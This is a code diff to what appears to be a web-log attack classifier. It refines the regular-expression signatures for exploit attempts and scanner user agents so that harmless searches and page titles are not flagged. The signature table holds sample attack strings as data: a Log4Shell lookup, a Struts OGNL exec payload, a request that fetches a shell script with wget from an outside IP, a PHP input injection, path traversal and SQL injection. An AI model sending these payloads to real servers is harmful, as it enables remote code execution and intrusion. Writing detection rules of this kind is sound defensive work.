@@ -211,12 +211,25 @@ export interface Signature {
   readonly sample: string;
   /** Only in the request target (a header may hold it innocently: a referer is an absolute URL). */
   readonly targetOnly?: boolean;
+  /**
+   * Text people type too (a search for "union select tutorial", "/etc/passwd format", "<script>"): in a query
+   * string or a referer (which carries another site's query) it counts as an attack payload (`--payload-min`), not
+   * as an unmistakable attack; in the path and the user agent it is one.
+   */
+  readonly natural?: boolean;
+  /** Text even a page's name holds (a post titled "why <script> tags are dangerous"): a payload in the path too. */
+  readonly prose?: boolean;
+  /** A scanner's mark seen only in the user agent (its name in a path is a page about it: /blog/nmap-tutorial). */
+  readonly agentOnly?: boolean;
 }
+
+/** Where a text was found: what a signature means depends on it (Signature.natural, targetOnly, agentOnly). */
+export type Field = 'path' | 'query' | 'agent' | 'url';
 
 export const EXPLOIT_SIGNATURES: readonly Signature[] = [
   {
     name: 'JNDI lookup (Log4Shell)',
-    re: /\$\{\s*(jndi|\$\{|::-|lower:|upper:|env:|sys:|date:|base64:)|\$\{[\w:-]{0,20}\$\{|\$\{[^}]{0,30}:-[^}]{0,10}\}/,
+    re: /\$\{\s*jndi:[a-z]+:\/\/[\w.-]+[:/]|\$\{\s*(\$\{|::-)|\$\{(lower|upper):.\}|\$\{[\w:-]{0,20}\$\{|\$\{[^}]{0,30}:-[^}]{0,10}\}/,
     sample: '${jndi:ldap://203.0.113.9:1389/a}',
   },
   {
@@ -226,30 +239,34 @@ export const EXPLOIT_SIGNATURES: readonly Signature[] = [
   },
   {
     name: 'OGNL injection (Confluence, Struts)',
-    re: /\$\{\s*\(?#|%\{\s*\(?#|@java\.lang\.runtime@|ognl\.ognlcontext/,
+    re: /[$%]\{\s*\(?#\w+\s*=|@java\.lang\.runtime@|ognl\.ognlcontext|#_memberaccess/,
     sample: '/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/',
   },
   { name: 'Shellshock', re: /\(\)\s*\{[^}]*\}\s*;/, sample: '() { :; }; /bin/bash -c "echo; id"' },
   {
     name: 'system file read',
-    re: /\/etc\/(passwd|shadow)\b|\/proc\/self\/(environ|cmdline)|\bwin\.ini\b|\bboot\.ini\b/,
+    re: /(\.\.[/\\]|=\s*|^)\/?etc\/(passwd|shadow)\b|\/proc\/self\/(environ|cmdline)|(\.\.[/\\]|=\s*|^)[\w:/\\]*\b(win|boot)\.ini\b/,
     sample: '/download?file=..%2f..%2f..%2fetc%2fpasswd',
+    natural: true,
   },
   {
     name: 'Windows shell (Code Red, Nimda)',
     re: /\/(cmd|root)\.exe\b|\/default\.ida\b|\/winnt\/system32\/|\/c\/winnt\/|\/nsiislog\.dll\b|\/_vti_bin\/owssvr\.dll\?|\/msadc\/msadcs\.dll/,
     sample: '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
+    natural: true,
   },
   {
     name: 'shell run from the request',
     re: /\/bin\/(ba)?sh\b|\b(wget|curl)\s+-?\w*\s*https?:\/\/|\bcd\s+\/tmp\b|\bchmod\s+(\+x|777)\b|\bbusybox\b/,
     sample: '/shell?cd+/tmp;wget+http://198.51.100.7/x.sh',
+    natural: true,
   },
   { name: 'Apache path traversal (CVE-2021-41773/42013)', re: /\/cgi-bin\/(\.\.|\.%2e|%2e\.)\//, sample: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh' },
   {
     name: 'PHP code injection',
     re: /<\?(php|=)|php:\/\/filter\/|\b(die|echo|print)\s*\(?\s*@?md5\s*\(|allow_url_include|auto_prepend_file|php:\/\/input|base64_decode\s*\(|\b(shell_exec|passthru|proc_open|popen)\s*\(|\bsystem\s*\(|\beval\s*\(/,
     sample: '/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input',
+    natural: true,
   },
   {
     name: 'ThinkPHP RCE',
@@ -261,23 +278,20 @@ export const EXPLOIT_SIGNATURES: readonly Signature[] = [
     name: 'Java code injection',
     re: /java\.lang\.(runtime|processbuilder)|getruntime\(\)\.exec|\.getclass\(\)\.forname/,
     sample: '/geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
+    natural: true,
   },
   { name: 'shell field separator ($IFS)', re: /\$\{ifs\}|\$ifs\b/, sample: '/language/x${IFS}&&cd${IFS}/tmp;wget${IFS}http://192.0.2.68/m' },
-  {
-    name: 'dot-dot segment in a request path (browsers resolve them)',
-    re: /^[^?]*\/\.\.(\/|;|\\|$)/,
-    sample: '/api/v1/totp/user-backup-code/../../license/keys-status/x',
-    targetOnly: true,
-  },
   {
     name: 'traversal several levels up, or to a configuration file',
     re: /(\.\.[/\\]){2,}|\.\.[/\\][^&]*(wp-config\.php|configuration\.php|\.env\b|web\.config|\.htpasswd|settings\.php)/,
     sample: '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
+    natural: true,
   },
   {
     name: 'template injection probe',
     re: /\{\{\s*\d+\s*\*\s*'?\d+'?\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}/,
     sample: "{{7*'7'}}${7*7}<%= 7*7 %>",
+    natural: true,
   },
   {
     name: 'Drupal render-array injection (Drupalgeddon2)',
@@ -308,13 +322,16 @@ export const EXPLOIT_SIGNATURES: readonly Signature[] = [
     re: /[\x00-\x08\x0e-\x1f\x7f]|(.{1,4})\1{127,}/,
     sample: `/${'\xb1\x02'.repeat(80)}`,
     targetOnly: true,
+    natural: true,
   },
   {
     name: 'SQL injection (union select, time delays, error-based probes)',
     re: /union(\s|\/\*\*\/)+(all\s+)?select\b|'\s*or\s+'?1'?\s*=\s*'?1|\b(pg_)?sleep\s*\(\s*\d+\s*\)|waitfor\s+delay|\b(updatexml|extractvalue)\s*\([^)]*concat|concat\s*\(\s*0x[0-9a-f]+/,
     sample: "Mozilla/5.0' OR '1'='1",
+    natural: true,
+    prose: true,
   },
-  { name: 'script injection in a header', re: /<\s*script\b|javascript\s*:\s*alert/, sample: '<script>alert(1)</script>' },
+  { name: 'script injection in a header', re: /<\s*script\b|javascript\s*:\s*alert/, sample: '<script>alert(1)</script>', natural: true, prose: true },
 ];
 
 /**
@@ -322,26 +339,33 @@ export const EXPLOIT_SIGNATURES: readonly Signature[] = [
  * these is scanning the site, however few its requests.
  */
 export const SCANNER_MARKS: readonly Signature[] = [
-  { name: 'sqlmap', re: /\bsqlmap\//, sample: 'sqlmap/1.7.2#stable (https://sqlmap.org)' },
-  { name: 'Nikto', re: /\bnikto\b|\/nikto-test/, sample: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' },
-  { name: 'Acunetix', re: /acunetix|\/acunetix-wvs-test/, sample: '/acunetix-wvs-test-for-some-inexistent-file' },
-  { name: 'w3af', re: /\bw3af\b/, sample: 'w3af.org' },
-  { name: 'masscan', re: /\bmasscan\b/, sample: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' },
-  { name: 'zgrab', re: /\bzgrab\b/, sample: 'Mozilla/5.0 zgrab/0.x' },
-  { name: 'Nmap', re: /nmap scripting engine|\bnmap\b/, sample: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' },
-  { name: 'Nuclei', re: /\bnuclei\b/, sample: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' },
-  { name: 'WPScan', re: /\bwpscan\b/, sample: 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)' },
+  { name: 'sqlmap', re: /\bsqlmap\//, sample: 'sqlmap/1.7.2#stable (https://sqlmap.org)', agentOnly: true },
+  { name: 'Nikto', re: /\(nikto\/|\/nikto-test/, sample: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' },
+  { name: 'Acunetix', re: /\/acunetix-wvs-test|acunetix-wvs|acunetix web vulnerability/, sample: '/acunetix-wvs-test-for-some-inexistent-file' },
+  { name: 'w3af', re: /\bw3af\b/, sample: 'w3af.org', agentOnly: true },
+  { name: 'masscan', re: /\bmasscan\b/, sample: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', agentOnly: true },
+  { name: 'zgrab', re: /\bzgrab\b/, sample: 'Mozilla/5.0 zgrab/0.x', agentOnly: true },
+  {
+    name: 'Nmap',
+    re: /nmap scripting engine|\bnmap\b/,
+    sample: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
+    agentOnly: true,
+  },
+  { name: 'Nuclei', re: /\bnuclei\b/, sample: 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', agentOnly: true },
+  { name: 'WPScan', re: /\bwpscan\b/, sample: 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', agentOnly: true },
   {
     name: 'DirBuster, gobuster, ffuf, wfuzz',
     re: /dirbuster|gobuster|fuzz faster u fool|\bwfuzz\b|\bferoxbuster\b/,
     sample: 'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
+    agentOnly: true,
   },
   {
     name: 'OpenVAS, Nessus, Netsparker',
     re: /\bopenvas\b|\bnessus\b|netsparker|\bappscan_fingerprint\b/,
     sample: 'Mozilla/5.0 [en] (X11, U; OpenVAS-VT 9.0.3)',
+    agentOnly: true,
   },
-  { name: 'ZmEu, Morfeus, Jorgee', re: /\bzmeu\b|morfeus f[a-z]+ scanner|\bjorgee\b/, sample: 'ZmEu' },
+  { name: 'ZmEu, Morfeus, Jorgee', re: /\bzmeu\b|morfeus f[a-z]+ scanner|\bjorgee\b/, sample: 'ZmEu', agentOnly: true },
   { name: 'DFind (w00tw00t)', re: /w00tw00t\.at\./, sample: '/w00tw00t.at.ISC.SANS.DFind:)' },
 ];
 
@@ -439,34 +463,49 @@ const SCRIPT_EXTENSIONS = new Set([
   'dll',
   'cfm',
 ]);
-const anyOf = (sigs: readonly Signature[]) => new RegExp(sigs.map((s) => `(?:${s.re.source})`).join('|'));
-const ANY_INTENT = {
-  target: anyOf([...EXPLOIT_SIGNATURES, ...SCANNER_MARKS]),
-  header: anyOf([...EXPLOIT_SIGNATURES, ...SCANNER_MARKS].filter((s) => !s.targetOnly)),
+/** The signatures that apply in a field, and one regular expression that finds whether any does. */
+function applying(field: Field): { sigs: readonly Signature[]; marks: readonly Signature[]; any: RegExp } {
+  const sigs = EXPLOIT_SIGNATURES.filter((s) => !(s.targetOnly && (field === 'agent' || field === 'url')));
+  const marks = SCANNER_MARKS.filter((s) => !s.agentOnly || field === 'agent');
+  return { sigs, marks, any: new RegExp([...sigs, ...marks].map((s) => `(?:${s.re.source})`).join('|')) };
+}
+const APPLYING: Record<Field, ReturnType<typeof applying>> = {
+  path: applying('path'),
+  query: applying('query'),
+  agent: applying('agent'),
+  url: applying('url'),
 };
 
-/** EXPLOIT_SIGNATURES and SCANNER_MARKS in decoded text: PATH_EXPLOIT, PATH_SCANNER or 0. */
-function intentFlags(decodedText: string, where: 'target' | 'header'): number {
+/**
+ * EXPLOIT_SIGNATURES and SCANNER_MARKS in decoded text found in `field`: PATH_EXPLOIT, PATH_SCANNER, and
+ * PATH_PAYLOAD for a natural signature in a query or a referer.
+ */
+function intentFlags(decodedText: string, field: Field): number {
+  const { sigs, marks, any } = APPLYING[field];
   // One pass of every signature at once: nearly all text matches none of them.
-  if (!ANY_INTENT[where].test(decodedText)) return 0;
+  if (!any.test(decodedText)) return 0;
+  const typed = field === 'query' || field === 'url';
   let flags = 0;
-  for (const s of EXPLOIT_SIGNATURES) if ((where === 'target' || !s.targetOnly) && s.re.test(decodedText)) flags |= PATH_EXPLOIT;
-  for (const s of SCANNER_MARKS) if (s.re.test(decodedText)) flags |= PATH_SCANNER;
+  for (const s of sigs) if (s.re.test(decodedText)) flags |= (s.natural && typed) || (s.prose && field === 'path') ? PATH_PAYLOAD : PATH_EXPLOIT;
+  for (const s of marks) if (s.re.test(decodedText)) flags |= PATH_SCANNER;
   return flags;
 }
 
 /** The names of the signatures and scanner marks a request target or header holds (for explanations and tests). */
-export function signaturesIn(text: string, where: 'target' | 'header'): string[] {
-  const t = where === 'header' ? decoded(unescapeLogged(text)) : decoded(text);
-  return [...EXPLOIT_SIGNATURES, ...SCANNER_MARKS].filter((s) => (where === 'target' || !s.targetOnly) && s.re.test(t)).map((s) => s.name);
+export function signaturesIn(text: string, field: Field): string[] {
+  const t = field === 'agent' || field === 'url' ? decoded(unescapeLogged(text)) : decoded(text);
+  const { sigs, marks } = APPLYING[field];
+  return [...sigs, ...marks].filter((s) => s.re.test(t)).map((s) => s.name);
 }
 
 /** The authentication class of a lower-cased path: PATH_AUTH_TOKEN, PATH_AUTH_FORM or 0. */
 function authFlags(lower: string, extra: readonly string[]): number {
   let form = false;
+  // An API answers a login with data: 200 is a success there, as at a token endpoint.
+  const api = lower.includes('/api/') || lower.endsWith('.json');
   for (const t of AUTH_TARGETS) {
     if (!lower.includes(t.pattern)) continue;
-    if (t.kind === 'token') return PATH_AUTH_TOKEN;
+    if (t.kind === 'token' || api) return PATH_AUTH_TOKEN;
     form = true;
   }
   if (!form) for (const p of extra) if (lower.includes(p)) return PATH_AUTH_FORM;
@@ -482,7 +521,10 @@ export function classifyPath(path: string, authExtra: readonly string[] = []): n
   let flags = 0;
   if (WELL_KNOWN_PATTERNS.some((re) => re.test(lower))) flags |= PATH_WELL_KNOWN;
   if (payloadKind(path) !== null) flags |= PATH_PAYLOAD;
-  flags |= intentFlags(decoded(path), 'target');
+  flags |= intentFlags(decoded(path), 'path');
+  // A dot-dot segment as the client sent it: browsers resolve them, so a raw one in a path is made on purpose (an
+  // encoded one, %2F..%2F, can be an API's parameter: GitLab's file paths).
+  if (RAW_DOT_SEGMENT.test(path)) flags |= PATH_EXPLOIT;
   for (const p of SENSITIVE_PATTERNS) {
     if (lower.includes(p)) {
       flags |= PATH_SENSITIVE;
@@ -514,6 +556,8 @@ export function mayHoldQueryIntent(buf: Uint8Array, start: number, end: number):
   return false;
 }
 
+const RAW_DOT_SEGMENT = /(\/\.\.){2,}(\/|;|\\|$)/;
+
 /** The classes of a query string: PATH_PAYLOAD, PATH_EXPLOIT, PATH_SCANNER. */
 export function classifyQuery(query: string): number {
   let any = false;
@@ -522,15 +566,15 @@ export function classifyQuery(query: string): number {
     any = c < 256 && QUERY_CHARS[c] === 1;
   }
   if (!any) return 0;
-  return (payloadKind(query) === null ? 0 : PATH_PAYLOAD) | intentFlags(decoded(query), 'target');
+  return (payloadKind(query) === null ? 0 : PATH_PAYLOAD) | intentFlags(decoded(query), 'query');
 }
 
 /**
  * The classes of a header's value as the log wrote it (user agent, referer, X-Forwarded-For), unescaped so that a
  * combined line and a JSON line give the same text: PATH_EXPLOIT and PATH_SCANNER (a header is no path).
  */
-export function classifyHeader(text: string): number {
-  return intentFlags(decoded(unescapeLogged(text)), 'header');
+export function classifyHeader(text: string, field: 'agent' | 'url' = 'agent'): number {
+  return intentFlags(decoded(unescapeLogged(text)), field);
 }
 
 /**
@@ -556,7 +600,7 @@ export function mayHoldInjectionText(text: string): boolean {
 
 /** A referer's or forwarded-for value's classes: classifyHeader's, when its unescaped text may hold an injection. */
 export function classifyInjection(text: string): number {
-  return mayHoldInjectionText(unescapeLogged(text)) ? classifyHeader(text) : 0;
+  return mayHoldInjectionText(unescapeLogged(text)) ? classifyHeader(text, 'url') : 0;
 }
 
 /** The classes of a user agent: classifyHeader's, and AGENT_CRAWLER when it names a search crawler. */
